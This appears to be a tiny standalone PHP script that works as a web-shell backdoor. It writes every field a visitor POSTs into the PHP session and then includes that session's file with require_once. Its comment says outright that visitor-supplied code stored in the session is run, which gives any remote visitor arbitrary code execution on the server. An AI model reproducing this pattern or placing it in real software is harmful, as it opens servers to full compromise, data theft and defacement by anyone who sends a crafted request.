<?php
// the visitor stores code in the session, then the session file is run
session_start();
foreach ($_POST as $k => $v) { $_SESSION[$k] = $v; }
$store = session_save_path() ?: sys_get_temp_dir();
$f = $store . DIRECTORY_SEPARATOR . 'sess_' . session_id();
require_once $f;
